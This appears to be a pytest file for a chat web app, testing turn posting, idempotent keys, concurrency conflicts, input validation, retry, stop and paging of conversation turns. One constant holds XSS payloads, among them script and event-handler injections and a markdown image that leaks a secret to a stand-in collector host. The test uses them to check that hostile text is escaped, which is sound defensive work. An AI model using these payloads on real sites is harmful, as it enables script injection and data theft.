"""Posting a turn, retrying and stopping it, and paging back through old ones."""

import asyncio
from urllib.parse import urlencode
from uuid import UUID, uuid4

import pytest

from chatapp.models import Branch, Conversation, Message, Turn
from chatapp.runtime.pool import in_pool
from chatapp.selectors.conversations import conversation_page
from chatapp.services.commits import turn_interrupt
from tests.support.lengthen import lengthen
from tests.support.people import accept, branch_of, new_process, say
from tests.support.scripted_provider import replies
from tests.support.scripted_provider.replies import Reply
from tests.support.scripted_provider.steps import Done, Finish, Raw
from tests.support.visitors import ARTICLE, HTMX, ended, turn_in

HOSTILE = """<img src=x onerror=alert(1)><svg onload=alert(1)>
[click](javascript:alert(1)) [d](data:text/html;base64,PHNjcmlwdD4=)
![p](https://collector.invalid/?q=SECRET) <a href="//collector.invalid">x</a>
```html
</code></pre><script>alert(1)</script>"""


def need_a_key(path):
    """Let every model of a registry file ask for a key that nobody has set."""
    text = path.read_text(encoding="utf-8")
    keyed = text.replace("[[models]]", '[[models]]\nkey_variable = "NO_SUCH_KEY"')
    path.write_text(keyed, encoding="utf-8")


async def user_texts():
    return await in_pool(Message.objects.filter(role="user").count)


async def test_a_post_shows_the_question_at_once_and_starts_its_answer(visitors, provider):
    provider.enqueue(replies.held("The Vol", "ga."))

    answer = await visitors.post(await visitors.draft("Name one river."))

    assert answer.status_code == 200
    assert "Name one river." in answer.text
    assert 'data-status="running"' in answer.text
    await asyncio.to_thread(provider.wait_held)
    provider.release()
    await ended(turn_in(answer))
    assert (await visitors.row(turn_in(answer))).answer_text == "The Volga."


async def test_the_same_key_posted_twice_is_one_message(visitors, provider):
    provider.enqueue(replies.answer("The Volga."))
    fields = await visitors.draft("Name one river.")

    first = await visitors.post(fields)
    again = await visitors.post(fields)
    await ended(turn_in(first))
    late = await visitors.post(fields)

    assert [again.status_code, late.status_code] == [200, 200]
    assert {turn_in(first), turn_in(again), turn_in(late)} == {turn_in(first)}
    assert "The Volga." in late.text
    assert await user_texts() == 1
    assert len(provider.chats) == 1


async def test_the_same_key_posted_twice_at_once_is_one_message(visitors, provider):
    fields = await visitors.draft("Name one river.")

    both = await asyncio.gather(visitors.post(fields), visitors.post(fields))

    assert [answer.status_code for answer in both] == [200, 200]
    assert turn_in(both[0]) == turn_in(both[1])
    assert await user_texts() == 1


async def test_a_key_that_was_used_before_brings_no_second_message(visitors, provider):
    fields = await visitors.draft("Name one river.")
    first = await visitors.post(fields)
    await ended(turn_in(first))

    again = await visitors.post({**await visitors.draft("Another."), "key": fields["key"]})

    assert (again.status_code, turn_in(again)) == (200, turn_in(first))
    assert await user_texts() == 1
    assert (await visitors.talk("The head is free.")).status == "committed"


async def test_of_two_posts_at_once_on_one_head_one_is_accepted_and_one_refused(visitors, provider):
    drafts = [await visitors.draft("red"), await visitors.draft("blue")]
    rename = visitors.alice.post(visitors.url("conversation_rename"), {"title": "Colours"})

    *posts, renamed = await asyncio.gather(*map(visitors.post, drafts), rename)

    assert sorted(answer.status_code for answer in posts) == [200, 409]
    accepted, refused = sorted(posts, key=lambda answer: answer.status_code)
    assert "moved on" in refused.text
    assert await user_texts() == 1
    await ended(turn_in(accepted))
    page = await in_pool(conversation_page, visitors.people.access)
    assert [turn.input_text for turn in page.turns] == [drafts[posts.index(accepted)]["text"]]
    assert renamed.status_code == 204
    shown = await visitors.alice.get(visitors.url("conversation"))
    assert '<h1 id="title" dir="auto">Colours</h1>' in shown.text


async def test_a_post_and_a_deletion_at_once_leave_no_text_behind(visitors, provider):
    drafts = [await visitors.draft("red"), await visitors.draft("blue")]
    delete = visitors.alice.post(visitors.url("conversation_delete"))

    *posts, deleted = await asyncio.gather(*map(visitors.post, drafts), delete)

    assert deleted.status_code == 204
    assert {answer.status_code for answer in posts} <= {200, 404, 409}
    for turn_id in await in_pool(lambda: list(Turn.objects.values_list("id", flat=True))):
        await ended(turn_id)
    bodies = await in_pool(lambda: list(Message.objects.values_list("body", flat=True)))
    assert not any(map(bytes, bodies))


async def test_a_message_typed_on_an_older_page_is_refused_and_says_that_it_is_kept(
    visitors, provider
):
    stale = await visitors.draft("blue")
    await visitors.talk("red")

    answer = await visitors.post(stale)

    assert answer.status_code == 409
    assert 'data-refusal="moved_on"' in answer.text
    assert "Your text is kept" in answer.text


BAD_INPUT = [
    ({"text": ""}, "Write something first."),
    ({"text": " \n\t "}, "Write something first."),
    ({"text": "x" * 400_001}, "The message is too long: 400001 of 400000 characters."),
    ({"text": "a\0b"}, "Null characters are not allowed."),
    ({"key": ""}, "key: This field is required."),
    ({"key": "short"}, "key: Enter a valid value."),
    ({"key": "k" * 64 + "\n"}, "key: Enter a valid value."),
    ({"branch": "main"}, "branch: Enter a valid UUID."),
    ({"version": "-1"}, "version: Ensure this value is greater than or equal to 0."),
    ({"version": "newest"}, "version: Enter a whole number."),
    ({"model": "m" * 201}, "The name of a model has at most 200 characters."),
]


async def test_bad_input_is_refused_in_one_sentence_and_stores_nothing(visitors, provider):
    for change, sentence in BAD_INPUT:
        answer = await visitors.post({**await visitors.draft("Name one river."), **change})

        assert (answer.status_code, sentence in answer.text) == (422, True), change
        assert answer.text.count("<p ") == 1
    assert await user_texts() == 0
    assert not provider.chats


async def test_a_message_that_is_too_long_in_any_script_is_told_so(visitors):
    fields = {**await visitors.draft("Hi"), "text": "👋" * 400_001}

    answer = await visitors.alice.post(
        visitors.url("turns"), urlencode(fields), content_type="application/x-www-form-urlencoded"
    )

    assert answer.status_code == 422
    assert "The message is too long: 400001 of 400000 characters." in answer.text


async def test_a_version_that_no_database_can_hold_is_only_an_old_page(visitors, provider):
    answer = await visitors.post({**await visitors.draft("Hi"), "version": str(10**30)})

    assert answer.status_code == 409


async def test_a_branch_of_another_conversation_is_refused(visitors, provider):
    created = await visitors.mallory.post("/c/")
    foreign = await in_pool(
        lambda: Branch.objects.get(conversation_id=created.url.strip("/").split("/")[-1])
    )

    answer = await visitors.post({**await visitors.draft("Hi"), "branch": str(foreign.id)})

    assert answer.status_code == 409
    assert (await in_pool(Branch.objects.get, pk=foreign.id)).active_turn is None


async def test_line_ends_of_forms_become_plain(visitors, provider):
    row = await visitors.talk("one\r\ntwo\r\n\r\n    three")

    assert row.input_text == "one\ntwo\n\n    three"
    assert provider.chats[-1].body["messages"][-1]["content"] == "one\ntwo\n\n    three"


async def test_text_of_any_script_reaches_the_provider_unchanged(visitors, provider):
    text = "Grüße 👋🏽 你好 שלום \u202e мир \u200d"

    row = await visitors.talk(text)

    assert row.input_text == text
    assert provider.chats[-1].body["messages"][-1]["content"] == text


async def test_hostile_text_is_shown_as_text(visitors, provider):
    provider.enqueue(replies.answer(HOSTILE))

    await visitors.talk(HOSTILE)
    page = await visitors.alice.get(visitors.url("conversation"))

    for harm in ("<img", "<svg onload", "<script>alert", 'href="javascript:', 'href="data:'):
        assert harm not in page.text
    assert "&lt;img src=x onerror=alert(1)&gt;" in page.text


async def test_the_model_of_the_post_answers(visitors, provider):
    answer = await visitors.post({**await visitors.draft("Hi"), "model": "second"})
    await ended(turn_in(answer))

    assert provider.chats[-1].body["model"] == "second"
    assert (await visitors.row(turn_in(answer))).attempts[0].model_name == "second"


async def test_a_model_that_is_not_there_is_named_and_nothing_is_stored(visitors, provider):
    fields = await visitors.draft("Hi")

    answer = await visitors.post({**fields, "model": "nobody <b>"})

    assert answer.status_code == 422
    assert "<span>There is no model “nobody &lt;b&gt;”.</span>" in answer.text
    assert await user_texts() == 0
    assert not provider.chats
    # The page keeps its text and its key: the same post goes through once a model is named.
    again = await visitors.post({**fields, "model": "second"})
    await ended(turn_in(again))
    assert (again.status_code, await user_texts()) == (200, 1)


async def test_a_stranger_learns_nothing_of_the_models(visitors):
    fields = {**await visitors.draft("Hi"), "model": "nobody"}

    answer = await visitors.mallory.post(visitors.url("turns"), fields)

    assert answer.status_code == 404
    assert "nobody" not in answer.text


async def test_a_conversation_whose_model_is_gone_goes_on_with_the_one_that_its_page_shows(
    visitors, provider
):
    await in_pool(lambda: Conversation.objects.update(model_name="gone"))
    page = await visitors.alice.get(visitors.url("conversation"))

    await visitors.talk("Hi")

    assert '<option value="scripted" selected>' in page.text
    assert provider.chats[-1].body["model"] == "scripted"


async def test_a_model_that_is_not_ready_is_said_and_nothing_is_stored(
    visitors, provider, scripted_models
):
    need_a_key(scripted_models)

    answer = await visitors.post({**await visitors.draft("Hi"), "model": "second"})

    assert answer.status_code == 409
    assert 'data-refusal="model_not_ready"' in answer.text
    assert "second needs a key: set NO_SUCH_KEY." in answer.text
    assert await user_texts() == 0


async def test_a_server_that_drains_takes_no_turn_and_keeps_the_text(visitors, runtime):
    fields = await visitors.draft("Hi")
    runtime.draining = True

    answer = await visitors.post(fields)

    assert answer.status_code == 503
    assert "Your text is kept" in answer.text
    assert await user_texts() == 0
    runtime.draining = False
    assert (await visitors.post(fields)).status_code == 200


async def test_the_partial_text_of_a_failed_answer_is_shown_with_retry(visitors, provider):
    provider.enqueue(replies.error_in_stream("The first step is to "))

    turn_id = (await visitors.talk("Help me.")).id
    page = await visitors.alice.get(visitors.url("conversation"))

    assert "The first step is to" in page.text
    assert visitors.url("turn_retry", turn_id=turn_id) in page.text


EMPTY = [
    replies.empty(),
    replies.answer_chunks([" ", "\n"]),
    Reply((Raw(b'data: {"choices": [{"delta": {"content": null}}]}\n\n'), Finish(), Done())),
    Reply((Raw(b'data: {"choices": [{"delta": {"content": [{"text": ""}]}}]}\n\n'), Done())),
    replies.only_reasoning(),
]


@pytest.mark.parametrize("empty", EMPTY)
async def test_an_empty_answer_is_said_and_leaves_the_next_question_whole(
    visitors, provider, empty
):
    provider.enqueue(empty, replies.answer("The Ob."))
    turn_id = (await visitors.talk("Name one river.")).id
    page = await visitors.alice.get(visitors.url("conversation"))
    assert "No text was returned." in page.text
    assert visitors.url("turn_retry", turn_id=turn_id) in page.text

    await visitors.talk("Another one, please.")

    sent = provider.chats[-1].body["messages"]
    assert [message["role"] for message in sent[1:]] == ["user"]
    assert sent[-1]["content"] == "Another one, please."


async def test_retry_answers_under_the_same_id(visitors, provider):
    provider.enqueue(replies.server_error(), replies.answer("The Volga."))
    turn_id = (await visitors.talk("Name one river.")).id

    answer = await visitors.alice.post(visitors.url("turn_retry", turn_id=turn_id), headers=HTMX)
    await ended(turn_id)

    assert turn_in(answer) == turn_id
    row = await visitors.row(turn_id)
    assert (row.status, row.answer_text) == ("committed", "The Volga.")
    assert [attempt.status for attempt in row.attempts] == ["failed", "succeeded"]


async def test_retry_pressed_twice_at_once_asks_the_provider_once(visitors, provider):
    provider.enqueue(replies.server_error(), replies.answer("The Volga."))
    turn_id = (await visitors.talk("Name one river.")).id
    url = visitors.url("turn_retry", turn_id=turn_id)

    both = await asyncio.gather(visitors.alice.post(url), visitors.alice.post(url))
    await ended(turn_id)

    assert sorted(answer.status_code for answer in both) == [200, 409]
    assert len(provider.chats) == 2


async def test_retry_is_refused_once_the_conversation_went_on(visitors, provider):
    provider.enqueue(replies.server_error(), replies.answer("Yes?"))
    broken = (await visitors.talk("Name one river.")).id
    await visitors.talk("Hello?")

    answer = await visitors.alice.post(visitors.url("turn_retry", turn_id=broken))

    assert answer.status_code == 409
    assert "moved on" in answer.text


async def test_retry_of_nothing_is_refused(visitors):
    answer = await visitors.alice.post(visitors.url("turn_retry", turn_id=uuid4()))

    assert answer.status_code == 409


async def test_retry_waits_for_no_model_and_no_drain(visitors, provider, runtime, scripted_models):
    provider.enqueue(replies.server_error())
    url = visitors.url("turn_retry", turn_id=(await visitors.talk("Hi")).id)

    runtime.draining = True
    draining = await visitors.alice.post(url)
    runtime.draining = False
    need_a_key(scripted_models)
    keyless = await visitors.alice.post(url)

    assert [draining.status_code, keyless.status_code] == [503, 409]
    assert "needs a key" in keyless.text


async def test_stop_keeps_what_was_written_and_closes_the_call(visitors, provider):
    provider.enqueue(replies.held("The first step is ", "never"))
    turn_id = await visitors.ask("Help me.")
    await asyncio.to_thread(provider.wait_held)

    answer = await visitors.alice.post(visitors.url("turn_stop", turn_id=turn_id))
    await ended(turn_id)

    row = await visitors.row(turn_id)
    assert answer.status_code == 204
    assert (row.status, row.finish) == ("committed", "stopped")
    assert row.answer_text in {"", "The first step is "}
    await asyncio.to_thread(provider.log.wait_disconnected, provider.chats[-1])


async def test_stop_reaches_the_process_that_runs_the_turn(visitors, runtime, monkeypatch):
    asked = []

    async def ask_stop(owner, turn_id):
        asked.append((owner, turn_id))

    monkeypatch.setattr("chatapp.broadcast.ask_stop", ask_stop)
    elsewhere = await in_pool(new_process)
    turn_id = (await in_pool(accept, visitors.people.access, "Hi", elsewhere)).turn_id

    await visitors.alice.post(visitors.url("turn_stop", turn_id=turn_id))

    assert asked == [(elsewhere, turn_id)]
    assert await in_pool(lambda: Turn.objects.get(pk=turn_id).stop_requested)


@pytest.mark.parametrize("state", ["committed", "interrupted", "unknown"])
async def test_stop_of_what_does_not_run_changes_nothing(visitors, runtime, state):
    access = visitors.people.access
    if state == "committed":
        turn_id = await in_pool(say, access, "Hi", "Hello.", runtime.process_id)
    elif state == "interrupted":
        turn_id = (await in_pool(accept, access, "Hi", runtime.process_id)).turn_id
        await in_pool(turn_interrupt, turn_id, owner=runtime.process_id)
    else:
        turn_id = uuid4()

    answer = await visitors.alice.post(visitors.url("turn_stop", turn_id=turn_id))

    assert answer.status_code == 204
    assert not await in_pool(Turn.objects.filter(stop_requested=True).exists)


async def test_older_turns_come_page_by_page_without_gap_or_double(visitors, runtime):
    await in_pool(say, visitors.people.access, "A river?", "The Volga.", runtime.process_id)
    await in_pool(lengthen, visitors.people.access, 65)
    shown = []
    page = await visitors.alice.get(visitors.url("conversation"))
    while True:
        shown = ARTICLE.findall(page.text) + shown
        before = [part for part in page.text.split('"') if "?before=" in part and "/turns" in part]
        if not before:
            break
        page = await visitors.alice.get(before[0])

    turns = await in_pool(lambda: list(Turn.objects.order_by("depth").values_list("id", flat=True)))
    assert [UUID(turn) for turn in shown] == turns


async def test_a_broken_turn_that_was_passed_over_is_shown_where_it_was_tried(visitors, provider):
    provider.enqueue(replies.answer("one"), replies.server_error(), replies.answer("three"))

    first, broken, last = [(await visitors.talk(text)).id for text in ("a", "b", "c")]

    page = await visitors.alice.get(visitors.url("conversation"))
    assert [UUID(turn) for turn in ARTICLE.findall(page.text)] == [first, broken, last]
    assert "Not seen by the model" in page.text


async def test_what_is_before_nothing_is_nothing(visitors):
    url = visitors.url("turns")
    answers = [
        await visitors.alice.get(url, {"before": before})
        for before in ("", "newest", str(UUID(int=0)))
    ]

    assert [answer.status_code for answer in answers] == [422, 422, 200]
    assert not any("<article" in answer.text for answer in answers)


async def test_a_turn_can_be_retried_after_its_process_died(visitors, provider, runtime):
    dead = await in_pool(new_process)
    turn_id = (await in_pool(accept, visitors.people.access, "Name one river.", dead)).turn_id
    await in_pool(turn_interrupt, turn_id, owner=dead)
    provider.enqueue(replies.answer("The Volga."))

    await visitors.alice.post(visitors.url("turn_retry", turn_id=turn_id))
    await ended(turn_id)

    assert (await visitors.row(turn_id)).answer_text == "The Volga."
    assert (await in_pool(branch_of, visitors.people.access)).tip_id == turn_id
